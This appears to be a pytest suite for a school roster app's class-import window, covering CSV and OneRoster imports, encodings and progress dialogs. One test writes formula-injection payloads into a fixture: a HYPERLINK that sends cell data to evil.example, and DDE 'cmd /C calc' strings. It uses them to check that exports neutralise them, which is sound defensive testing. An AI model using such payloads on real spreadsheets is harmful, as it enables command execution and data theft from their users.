"""Importing a class from CSV through the window: all rows or none, with a message a teacher understands."""

from __future__ import annotations

import threading
from pathlib import Path

import pytest
from PySide6.QtCore import QLocale, Qt
from PySide6.QtWidgets import QProgressBar, QProgressDialog
from sqlalchemy import func, select

from plprofile.store.models import Learner

ROSTERS = Path(__file__).resolve().parents[1] / "fixtures" / "rosters"


def _learner_count(window) -> int:
    with window.ctx.store.session() as s:
        return s.execute(select(func.count()).select_from(Learner)).scalar_one()


def _import(window, answers, qtbot, path: Path) -> None:
    answers.file_answer = str(path)
    before = len(answers.errors)
    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
    # A good file imports on a worker thread; a bad one is refused at once.
    qtbot.waitUntil(lambda: window.left.isEnabled() and (window.model.rowCount() > 0
                                                          or len(answers.errors) > before), timeout=20_000)


@pytest.mark.parametrize("name", ["good_class.csv", "good_class_bom.csv"])
def test_good_file_imports_every_row(open_window, answers, qtbot, name):
    window = open_window()
    _import(window, answers, qtbot, ROSTERS / name)
    assert answers.errors == []
    assert window.model.rowCount() == 8 == _learner_count(window)
    names = {window.model.learner(i).given_name for i in range(8)}
    assert {"Zoë", "José"} <= names


@pytest.mark.parametrize("name, words", [
    ("bad_missing_family_name.csv", "family_name"),
    ("bad_workbook.xlsx", "workbook"),
    ("bad_empty.csv", "empty"),
    ("bad_duplicate_ids.csv", "same"),
    ("bad_whitespace_names.csv", "Row"),
])
def test_bad_file_is_refused_with_a_clear_message_and_nothing_imported(open_window, answers, qtbot, name, words):
    window = open_window()
    _import(window, answers, qtbot, ROSTERS / name)
    assert answers.errors and answers.errors[-1].startswith("Nothing was imported.")
    assert words in answers.errors[-1]
    assert _learner_count(window) == 0 and window.model.rowCount() == 0


@pytest.mark.parametrize(("name", "encoding"), [("excel_windows1252_semicolons.csv", "Windows-1252"),
                                                ("excel_unicode_text.txt", "UTF-16"),
                                                ("excel_csv_utf8.csv", "UTF-8 (BOM)")])
def test_excel_saved_files_import_in_each_encoding_and_say_which(open_window, answers, qtbot, name, encoding):
    window = open_window()
    _import(window, answers, qtbot, ROSTERS / name)
    assert answers.errors == []
    assert f"Read as {encoding}: José Núñez, Zoë Müller, Siobhán O’Brien …" in answers.confirms[-1]
    names = sorted(f"{s.given_name} {s.family_name}" for s in window.model.all_learners())
    assert names == ["François Lefèvre", "José Núñez", "Siobhán O’Brien", "Zoë Müller"]


def test_clash_with_stored_ids_imports_nothing(open_window, answers, qtbot, tmp_path):
    window = open_window()
    _import(window, answers, qtbot, ROSTERS / "good_class.csv")
    assert _learner_count(window) == 8
    again = tmp_path / "again.csv"
    lines = (ROSTERS / "good_class.csv").read_text(encoding="utf-8").splitlines()
    header = lines[0]
    again.write_text("\n".join([header, *lines[1:3]]) + "\n", encoding="utf-8")
    before = len(answers.errors)
    answers.file_answer = str(again)
    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: len(answers.errors) > before, timeout=20_000)
    message = answers.errors[-1]
    assert message.startswith("Nothing was imported.") and message.count("Nothing was imported") == 1
    assert "S1001, S1002" in message
    assert _learner_count(window) == 8


def test_large_file_imports_in_one_go(open_window, answers, qtbot, tmp_path):
    rows = ["given_name,family_name,group,external_id"] + [f"Learner{i},Family{i},G{i % 30},X{i}" for i in range(3000)]
    path = tmp_path / "big.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    window = open_window()
    _import(window, answers, qtbot, path)
    assert answers.errors == []
    assert window.model.rowCount() == 3000 == _learner_count(window)


def test_big_file_shows_how_far_the_import_got(open_window, answers, qtbot, tmp_path):
    rows = ["given_name,family_name,group,external_id"] + [f"Learner{i},Family{i},G{i % 30},X{i}" for i in range(5000)]
    path = tmp_path / "big.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    window = open_window()
    answers.file_answer = str(path)
    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)

    # The dialog is up as soon as the import starts, modal to the window, and counts the learners.
    [dialog] = window.findChildren(QProgressDialog)
    assert dialog.isVisible() and dialog.windowModality() == Qt.WindowModality.WindowModal
    assert (dialog.minimum(), dialog.maximum()) == (0, 5000)
    assert dialog.labelText() == f"Importing 0 of {QLocale().toString(5000)} learners…"
    seen: list[tuple[int, bool]] = []
    dialog.findChild(QProgressBar).valueChanged.connect(
        lambda value: seen.append((value, threading.current_thread() is threading.main_thread())))
    qtbot.waitUntil(lambda: window.left.isEnabled(), timeout=20_000)

    assert answers.errors == []
    values = [value for value, _ in seen]
    assert values and values == sorted(values) and values[-1] == 5000
    assert all(on_gui_thread for _, on_gui_thread in seen)
    assert not [d for d in window.findChildren(QProgressDialog) if d.isVisible()]
    assert window.model.rowCount() == 5000 == _learner_count(window)


def test_small_file_imports_without_a_progress_dialog(open_window, answers, qtbot):
    window = open_window()
    answers.file_answer = str(ROSTERS / "good_class.csv")
    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
    assert window.findChildren(QProgressDialog) == []
    qtbot.waitUntil(lambda: window.left.isEnabled() and window.model.rowCount() == 8, timeout=20_000)


def test_exported_lists_never_carry_formulas_from_imported_names(open_window, answers, qtbot, tmp_path,
                                                                   monkeypatch):
    import csv

    from plprofile.ui.classroom import class_overview

    hostile = tmp_path / "hostile.csv"
    hostile.write_text(
        "given_name,family_name,preferred_name,grade,group,external_id\n"
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Okafor,,5,5B,S1\n'
        "Ana,+cmd|' /C calc'!A0,,5,5B,S2\n"
        "Ben,Lee,@SUM(1+1)*cmd|' /C calc'!A0,5,5B,S3\n"
        "Cy,-2+3+cmd|' /C calc'!A0,,5,5B,S4\n", encoding="utf-8")
    window = open_window()
    _import(window, answers, qtbot, hostile)
    assert answers.errors == [] and _learner_count(window) == 4
    # a learner's own preferred name, changed later, goes through the same door
    first = window.model.learner(0).id
    window.ctx.profiles.update_learner(window.ctx.teacher, first, preferred_name="=1+2")
    overview = window.open_class_overview()
    assert len(overview.due_rows()) == 4  # nobody assessed yet: all of them are on the list
    target = tmp_path / "due.csv"
    monkeypatch.setattr(class_overview, "choose_export_path", lambda *_a, **_k: str(target))
    overview.export_due()
    with target.open(encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    names = [c for c in cells if "cmd|" in c or "HYPERLINK" in c or "1+2" in c]
    assert len(names) == 4, cells
    # the list shows "preferred family": three of them begin with a formula and arrive quoted, as text
    assert sorted(c for c in names if c.startswith("'")) == [
        "'=1+2 +cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") Okafor",
        "'@SUM(1+1)*cmd|' /C calc'!A0 Lee"], names
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
def test_import_class_takes_a_oneroster_zip_with_a_preview(open_window, answers, qtbot, tmp_path, language):
    from tests import oneroster_sets as sets

    language("en")  # its plural forms: "3 learners added"
    window = open_window()
    answers.file_answer = str(sets.write_zip(sets.set_11(), tmp_path / "sis.zip"))
    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: window.model.rowCount() == 3, timeout=20_000)
    preview = answers.confirms[-1]
    assert "Import sis.zip (OneRoster 1.1)?" in preview
    for line in ("3 learners added", "2 teachers added", "2 classes added", "5 class memberships added"):
        assert line in preview
    assert "users.csv, row 2: enabledUser is “TRUE”; read as true." in preview  # as the catalogue words it
    assert sorted(s.given_name for s in window.model.all_learners()) == ["José", "Seán", "Zoë"]
    shown = [window.proxy.index(i, 0).data() for i in range(window.proxy.rowCount())]
    assert "Seán O’Brien (disabled)" in shown and "Zoë Moreau" in shown  # enabledUser=false: kept, marked

    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)  # the same set again
    qtbot.waitUntil(lambda: bool(answers.infos), timeout=20_000)  # read and checked on the worker
    assert "changes nothing" in answers.infos[-1]


def test_a_refused_oneroster_zip_imports_nothing(open_window, answers, qtbot, tmp_path):
    from tests import oneroster_sets as sets

    window = open_window()
    files = sets.set_11()
    del files["users.csv"]
    answers.file_answer = str(sets.write_zip(files, tmp_path / "bad.zip"))
    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: bool(answers.errors), timeout=20_000)  # read and checked on the worker
    assert "users.csv" in answers.errors[-1] and answers.confirms == []
    assert _learner_count(window) == 0 and window.left.isEnabled()


def test_a_oneroster_folder_imports_on_the_worker_with_progress_and_classes_as_groups(
        open_window, answers, qtbot, tmp_path):
    """Import class… takes a OneRoster folder through its manifest.csv; reading, checking and writing run on the
    worker while a progress dialog shows and the window keeps handling events; the roster's learners show
    their classes where a group would be."""
    from PySide6.QtCore import QTimer

    from plprofile.ui.school import roster_set
    from tests import oneroster_sets as sets

    window = open_window()
    folder = sets.write_folder(sets.set_11(), tmp_path / "sis-export")
    answers.file_answer = str(folder / "manifest.csv")
    events: list[str] = []
    ticks = QTimer(window)
    ticks.timeout.connect(lambda: events.append("tick"))
    ticks.start(0)
    original = roster_set.import_roster_set

    def watched(win, path):  # noqa: ANN001, ANN202
        events.append(f"start {path.name}")
        original(win, path)
        events.append("returned")  # before the set is even read: the work is on the worker
        dialogs = [d for d in win.findChildren(QProgressDialog) if d.isVisible()]
        events.append("progress shown" if dialogs else "no progress")

    roster_set.import_roster_set = watched
    try:
        qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
        qtbot.waitUntil(lambda: window.model.rowCount() == 3, timeout=20_000)
    finally:
        roster_set.import_roster_set = original
        ticks.stop()
    assert events[:3] == ["start sis-export", "returned", "progress shown"], events[:5]
    assert events.count("tick") > 0 and "tick" in events[events.index("progress shown"):]
    assert not [d for d in window.findChildren(QProgressDialog) if d.isVisible()]
    assert "Import sis-export (OneRoster 1.1)?" in answers.confirms[-1]
    groups = {window.model.learner(i).given_name: window.model.learner(i).group_name for i in range(3)}
    assert groups == {"Zoë": "5A Maths, 5B Maths", "José": "5A Maths", "Seán": "5B Maths"}
